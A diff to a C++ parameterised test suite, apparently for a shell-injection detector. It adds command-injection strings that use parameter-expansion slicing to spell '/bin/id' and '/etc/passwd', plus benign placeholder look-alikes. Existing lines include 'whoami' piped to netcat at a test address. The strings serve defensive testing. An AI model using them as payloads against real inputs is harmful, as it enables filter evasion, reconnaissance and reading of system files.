@@ -40,7 +40,8 @@ INSTANTIATE_TEST_SUITE_P(
         // Recon command followed by a separator.
         "uname;x", "whoami|nc 192.0.2.1 9",
         // Parameter expansion operators and $[...] arithmetic.
-        "${PATH%%:*}", "${HOME#/}", "$[7*7]",
+        "${PATH%%:*}", "${HOME#/}", "$[7*7]", "x|${PATH:0:1}bin${PATH:0:1}id",
+        ";${HOME:0:1}etc${HOME:0:1}passwd",
         // alias definitions.
         "alias ll=whoami", "x; alias -p e=env",
         // Several chained commands, one with arguments.
@@ -96,6 +97,7 @@ INSTANTIATE_TEST_SUITE_P(
         "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) Safari/534",
         // Template placeholders and prices.
         "Hello ${name}, your total is ${total}", "${a/b}", "costs $5 or $[sale]", "~+5 %",
+        "server.port=${PORT:8080}", "${name:0}",
         // Prose with semicolons and pipes.
         "cats; dogs; more pets", "time | date | place", "x; time to go"));
 
